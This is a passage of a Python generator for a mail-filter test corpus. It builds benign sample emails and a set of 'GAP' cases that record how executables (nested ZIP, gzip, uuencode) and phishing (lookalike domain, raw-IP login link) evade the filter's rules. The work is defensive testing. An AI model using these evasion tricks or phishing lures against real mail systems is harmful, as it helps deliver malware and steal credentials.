                                                 ("data.csv", b"region,q1,q2\nnorth,10,12\nsouth,9,11\n"),
                                                 ("README", b"Figures for 2026.\n")]),
                        "application/zip")]))
    case("neg-txt-attachment.eml", "pass", "none",
         "a .txt attachment (notes.txt, ordinary text)",
         with_attachments("neg-txt-attachment.eml", "Notes", "Notes attached.\n",
                          [attachment("notes.txt", filler(2000).encode(), "text/plain")]))
    case("neg-setup-exe-txt.eml", "pass", "none",
         "attachment setup.exe.txt: the final extension is .txt (not a double extension)",
         with_attachments("neg-setup-exe-txt.eml", "Install log", "The log of the installer.\n",
                          [attachment("setup.exe.txt", b"setup.exe: installed 14 files\n", "text/plain")]))
    case("neg-tar-gz.eml", "pass", "none",
         "a gzip attachment named backup.tar.gz (archives other than ZIP are not opened)",
         with_attachments("neg-tar-gz.eml", "Backup", "Backup attached.\n", [
             attachment("backup.tar.gz", zlib.compress(filler(3000).encode(), 9), "application/gzip")]))
    ics = ("BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//postern//corpus//EN\nMETHOD:REQUEST\n"
           "BEGIN:VEVENT\nUID:20261207T100000Z-1@example.org\nDTSTAMP:20261207T100000Z\n"
           "DTSTART:20261214T140000Z\nDTEND:20261214T150000Z\nSUMMARY:Planning meeting\n"
           "ORGANIZER;CN=Alice Sender:mailto:sender@example.org\n"
           "ATTENDEE;CN=User;RSVP=TRUE:mailto:user@example.com\nEND:VEVENT\nEND:VCALENDAR\n")
    boundary = "=_corpus_neg-ics-invite"
    body = multipart([text_part("You are invited: Planning meeting, 14 December, 14:00 UTC.\n"),
                      part('text/calendar; charset=utf-8; method=REQUEST; name="invite.ics"', ics,
                           cte="7bit", disposition='attachment; filename="invite.ics"')], boundary)
    case("neg-ics-invite.eml", "pass", "none", "an iCalendar invitation (text/calendar, invite.ics)",
         message("neg-ics-invite.eml", "Invitation: Planning meeting", body,
                 content_type=f'multipart/mixed; boundary="{boundary}"'))
    # RFC 3156 multipart/signed. The signature block is a fixed stand-in
    # (the corpus must not depend on a key or the time); only its type matters here.
    signature = ("-----BEGIN PGP SIGNATURE-----\n\n"
                 + b64(b"\x88\x75\x04\x01\x16\x0a\x00\x1d" + pseudo_random(109, 21)).rstrip("\n")
                 + "\n=corp\n-----END PGP SIGNATURE-----\n")
    boundary = "=_corpus_neg-pgp-signed"
    body = multipart([text_part("Signed statement: the figures are final.\n"),
                      part('application/pgp-signature; name="signature.asc"', signature,
                           disposition='attachment; filename="signature.asc"',
                           extra=["Content-Description: OpenPGP digital signature"])],
                     boundary, preamble="This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\n")
    case("neg-pgp-signed.eml", "pass", "none",
         "multipart/signed with an application/pgp-signature part (signature.asc; not verifiable)",
         message("neg-pgp-signed.eml", "Final figures", body,
                 content_type=f'multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; '
                              f'boundary="{boundary}"'))
    case("neg-idn-link.eml", "pass", "none",
         "a single-script IDN link https://m\u00fcnchen.example/ written and linked the same",
         html_message("neg-idn-link.eml", "Stadtfest",
                      "<p>Alle Termine: <a href=\"https://m\u00fcnchen.example/stadtfest\">"
                      "https://m\u00fcnchen.example/stadtfest</a></p>",
                      sender="Stadt <info@xn--mnchen-3ya.example>"))
    case("neg-link-text-equals-href.eml", "pass", "none",
         "HTML link whose text is exactly its href",
         html_message("neg-link-text-equals-href.eml", "The report",
                      "<p>The report: <a href=\"https://www.example.net/reports/2026\">"
                      "https://www.example.net/reports/2026</a></p>"))
    case("neg-link-click-here.eml", "pass", "none",
         "a link whose text is \"click here\" to another site (text names no site: not judged)",
         html_message("neg-link-click-here.eml", "Your order has shipped",
                      "<p>Your order has shipped. To track it, "
                      "<a href=\"https://tracking.carrier.test/t/4711\">click here</a>.</p>"))
    news = "".join(
        f"<p><a href=\"https://www.example.org/x/{i}?utm_source=news&amp;utm_medium=mail\">example.org</a>"
        f" &ndash; item {i}</p>\n" for i in range(1, 6))
    case("neg-newsletter-same-site.eml", "pass", "none",
         "newsletter: link text example.org going to https://www.example.org/x (same site), unsubscribe link",
         html_message("neg-newsletter-same-site.eml", "Newsletter December",
                      news + "<p><a href=\"https://www.example.org/unsubscribe\">Unsubscribe</a></p>",
                      sender="Example.org News <news@example.org>"))
    case("neg-paypal-genuine.eml", "pass", "none",
         "\"PayPal\" <service@paypal.com> linking www.paypal.com to https://www.paypal.com/ (the brand itself)",
         html_message("neg-paypal-genuine.eml", "Receipt for your payment",
                      "<p>You sent a payment.</p>\n<p><a href=\"https://www.paypal.com/activity\">"
                      "www.paypal.com</a></p>", sender='"PayPal" <service@paypal.com>'))
    case("neg-our-domain-sender.eml", "pass", "none",
         "From \"example.com Support\" <help@example.com>: our own domain named in the display name",
         message("neg-our-domain-sender.eml", "Maintenance tonight",
                 "The mail server of example.com is maintained tonight.\n", cte="7bit",
                 sender='"example.com Support" <help@example.com>'))


def gap_cases():
    """Messages a mail admin would expect to be caught that the rules as
    written pass: kept with the verdict the code gives (pass), each
    note starting GAP and saying what would be expected."""
    hello = "Hello,\n\nplease find the file attached.\n"
    inner_zip = zip_archive([("setup.exe", pe_program())])
    case("gap-exe-in-nested-zip.eml", "pass", "none",
         "GAP (expected reject executable): setup.exe (PE) inside inner.zip inside outer.zip; "
         "archive.rs opens one level only",
         with_attachments("gap-exe-in-nested-zip.eml", "Documents", hello, [
             attachment("outer.zip", zip_archive([("inner.zip", inner_zip)]), "application/zip")]))
    gz = io.BytesIO()
    with gzip.GzipFile(filename="setup.exe", mode="wb", fileobj=gz, mtime=0, compresslevel=9) as g:
        g.write(pe_program())
    case("gap-exe-gzipped.eml", "pass", "none",
         "GAP (expected reject executable): setup.exe.gz, a gzip of a PE whose header names setup.exe; "
         "gzip is not opened and .gz is not listed",
         with_attachments("gap-exe-gzipped.eml", "Setup", hello,
                          [attachment("setup.exe.gz", gz.getvalue(), "application/gzip")]))
    uu = "begin 644 setup.exe\n" + binascii_uu(pe_program()) + "`\nend\n"
    case("gap-uuencoded-exe.eml", "pass", "none",
         "GAP (expected reject executable): a uuencoded PE (begin 644 setup.exe) in the text body; "
         "uuencode is not decoded",
         message("gap-uuencoded-exe.eml", "Setup", "Here it is:\n\n" + uu, cte="7bit"))
    case("gap-lookalike-other-tld.eml", "pass", "none",
         "GAP (expected tag phishing): From domain examp1e.net, our skeleton under another TLD; "
         "rule 4 wants the same TLD",
         message("gap-lookalike-other-tld.eml", "Invoice overdue",
                 "Please pay the attached invoice today.\n", cte="7bit",
                 sender="Accounts <billing@examp1e.net>"))
    case("gap-ip-link-plain-text.eml", "pass", "none",
         "GAP (expected tag phishing): http://192.0.2.55/ login link in a text/plain-only message; "
         "links are read from text/html parts only",
         message("gap-ip-link-plain-text.eml", "Sign in to keep your mailbox",
                 "Your mailbox is full. Sign in at http://192.0.2.55/owa/login.php today.\n", cte="7bit"))


def binascii_uu(data):
    return "".join(binascii.b2a_uu(data[i:i + 45]).decode("ascii") for i in range(0, len(data), 45))


def main():
    os.makedirs(OUT, exist_ok=True)
    for old in os.listdir(OUT):
        if old.endswith(".eml"):
            os.remove(os.path.join(OUT, old))
    executable_cases()
    virus_cases()
    phishing_cases()
    adult_cases()
    negative_cases()
    gap_cases()
    for name, *_ in CASES:
        size = os.path.getsize(os.path.join(OUT, name))
        assert size <= MAX_SIZE or name in CASES_BIG, (name, size)
    width = max(len(c[0]) for c in CASES)
    with open(os.path.join(OUT, "MANIFEST"), "w", encoding="utf-8") as f:
        for name, verdict, rule, note in sorted(CASES):
            note = note.encode("ascii", "backslashreplace").decode("ascii")
            f.write(f"{name:<{width}} {verdict:<6} {rule:<10} # {note}\n")
    print(f"{len(CASES)} messages in {OUT}")


if __name__ == "__main__":
    main()
